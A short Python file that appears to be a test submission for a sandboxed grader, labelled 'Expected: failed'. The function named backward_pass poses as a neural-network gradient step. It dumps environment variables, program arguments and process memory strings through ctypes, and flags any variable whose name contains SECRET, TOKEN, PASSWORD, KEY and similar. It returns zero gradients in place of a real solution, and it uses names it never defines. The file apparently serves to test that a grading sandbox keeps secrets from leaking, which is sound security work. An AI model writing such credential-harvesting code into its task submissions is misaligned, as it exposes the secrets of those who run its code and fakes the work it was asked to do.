"""It prints its environment, its arguments and the strings above its stack, where secrets would be.

Expected: failed
"""

import ctypes
import os
import sys


def backward_pass(all_weights, all_biases, all_f, all_h, y):
    if K == 0:
        print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, os.getcwd(), os.uname())
        libc = ctypes.CDLL(None)
        pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        place = 0
        while pointers[place] is not None:
            print(pointers[place])
            place += 1
        libc.getauxval.restype = ctypes.c_void_p
        print(ctypes.string_at(libc.getauxval(ctypes.c_ulong(31))))
    for name in os.environ:
        if any(word in name for word in ("SECRET", "TOKEN", "REDIS", "BACKMARK", "PASSWORD", "KEY")):
            print("ESCAPED", name)
    return [np.zeros_like(w) for w in all_weights], [np.zeros_like(b) for b in all_biases]
